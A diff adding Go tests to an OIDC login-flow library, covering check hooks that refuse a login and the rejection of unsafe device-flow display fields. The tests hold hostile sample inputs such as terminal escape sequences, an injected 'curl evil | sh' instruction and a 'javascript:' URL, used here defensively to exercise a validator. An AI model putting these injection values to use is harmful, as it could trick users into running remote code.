@@ -383,6 +383,55 @@ func TestCodeFlowAgainstZitadelOP(t *testing.T) {
 		}
 	})
 
+	// Finish's checks run after the state is taken and before the code
+	// goes to the token endpoint: a refusal consumes the state and never
+	// reaches the identity provider (issue 14, finding 5).
+	t.Run("check hook", func(t *testing.T) {
+		for _, c := range []struct {
+			name   string
+			checks []oidcflow.Check
+			want   error
+		}{
+			{"refused", []oidcflow.Check{func(json.RawMessage) error { return errors.New("cookie does not match") }}, oidcflow.ErrLoginBinding},
+			{"second check refuses", []oidcflow.Check{nil, func(json.RawMessage) error { return nil }, func(json.RawMessage) error { return errors.New("no") }}, oidcflow.ErrLoginBinding},
+			{"accepted", []oidcflow.Check{func(x json.RawMessage) error {
+				if string(x) != string(extra) {
+					return errors.New("check saw " + string(x))
+				}
+				return nil
+			}}, nil},
+		} {
+			t.Run(c.name, func(t *testing.T) {
+				posts := &countingTransport{}
+				e := newEnv(t, func(cfg *oidcflow.Config) { cfg.HTTPClient = &http.Client{Timeout: 5 * time.Second, Transport: posts} })
+				authURL, state, err := e.flow.Start(ctx, web, callback, extra)
+				if err != nil {
+					t.Fatal(err)
+				}
+				back := op.browser(t, authURL, callback)
+				res, err := e.flow.Finish(ctx, state, back.Get("code"), lookupOf(web), c.checks...)
+				if c.want == nil {
+					if err != nil || res.Claims["sub"] != "alice" || posts.n() != 1 {
+						t.Fatalf("Finish = %+v, %v; %d token requests", res, err, posts.n())
+					}
+					return
+				}
+				if !errors.Is(err, c.want) || oidcflow.StatusCode(err) != http.StatusUnauthorized {
+					t.Fatalf("Finish: %v (status %d), want %v and 401", err, oidcflow.StatusCode(err), c.want)
+				}
+				if posts.n() != 0 {
+					t.Fatalf("the token endpoint was called %d times after a refused check", posts.n())
+				}
+				if e.rows(t) != 0 {
+					t.Fatal("login state left behind")
+				}
+				if _, err := e.flow.Finish(ctx, state, back.Get("code"), lookupOf(web)); !errors.Is(err, oidcflow.ErrStateNotFound) {
+					t.Fatalf("state usable after a refused check: %v", err)
+				}
+			})
+		}
+	})
+
 	t.Run("two instances race on one callback", func(t *testing.T) {
 		e := newEnv(t, nil)
 		other, err := oidcflow.New(oidcflow.Config{Store: e.store, HTTPClient: &http.Client{Timeout: 5 * time.Second}, Userinfo: true})
@@ -503,6 +552,49 @@ func TestDeviceFlowAgainstZitadelOP(t *testing.T) {
 		}
 	})
 
+	// What the provider wants shown to a person must be safe to print in
+	// a terminal (issue 14, finding 8): a response carrying escape
+	// sequences or a non-https URL is refused and nothing is stored.
+	t.Run("unsafe display fields", func(t *testing.T) {
+		for _, c := range []struct {
+			name string
+			resp map[string]any
+		}{
+			{"escape in user_code", map[string]any{"user_code": "\x1b]0;pwned\x07WDJB", "verification_uri": "https://idp.example/device"}},
+			{"newline in user_code", map[string]any{"user_code": "WDJB\nRun: curl evil | sh", "verification_uri": "https://idp.example/device"}},
+			{"http verification_uri", map[string]any{"user_code": "WDJB-MJHT", "verification_uri": "http://idp.example/device"}},
+			{"CSI in verification_uri", map[string]any{"user_code": "WDJB-MJHT", "verification_uri": "https://idp.example/\x1b[2Jdevice"}},
+			{"javascript verification_uri_complete", map[string]any{"user_code": "WDJB-MJHT", "verification_uri": "https://idp.example/device", "verification_uri_complete": "javascript:alert(1)"}},
+		} {
+			t.Run(c.name, func(t *testing.T) {
+				e := newEnv(t, nil)
+				var fake *httptest.Server
+				fake = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+					w.Header().Set("Content-Type", "application/json")
+					if r.URL.Path == "/device" {
+						body := map[string]any{"device_code": "dc", "expires_in": 600, "interval": 5}
+						for k, v := range c.resp {
+							body[k] = v
+						}
+						json.NewEncoder(w).Encode(body)
+						return
+					}
+					json.NewEncoder(w).Encode(map[string]any{"issuer": "https://dev.example", "authorization_endpoint": "https://dev.example/auth",
+						"token_endpoint": fake.URL + "/token", "jwks_uri": fake.URL + "/keys", "device_authorization_endpoint": fake.URL + "/device"})
+				}))
+				defer fake.Close()
+				p := oidcflow.Provider{IdPID: "dev", Issuer: "https://dev.example", DiscoveryURL: fake.URL, ClientID: "c", ClientSecret: "s"}
+				ds, err := e.flow.StartDevice(ctx, p, nil)
+				if !errors.Is(err, oidcflow.ErrProviderUnavailable) {
+					t.Fatalf("StartDevice = %+v, %v; want ErrProviderUnavailable", ds, err)
+				}
+				if e.rows(t) != 0 {
+					t.Fatal("state stored")
+				}
+			})
+		}
+	})
+
 	t.Run("expired", func(t *testing.T) {
 		e := newEnv(t, nil)
 		ds, err := e.flow.StartDevice(ctx, dev, nil)
@@ -529,3 +621,21 @@ func TestDeviceFlowAgainstZitadelOP(t *testing.T) {
 		}
 	})
 }
+
+// countingTransport counts the POST requests (token endpoint calls) a
+// Flow makes; discovery, JWKS and userinfo are GETs.
+type countingTransport struct {
+	mu    sync.Mutex
+	posts int
+}
+
+func (c *countingTransport) RoundTrip(r *http.Request) (*http.Response, error) {
+	if r.Method == http.MethodPost {
+		c.mu.Lock()
+		c.posts++
+		c.mu.Unlock()
+	}
+	return http.DefaultTransport.RoundTrip(r)
+}
+
+func (c *countingTransport) n() int { c.mu.Lock(); defer c.mu.Unlock(); return c.posts }
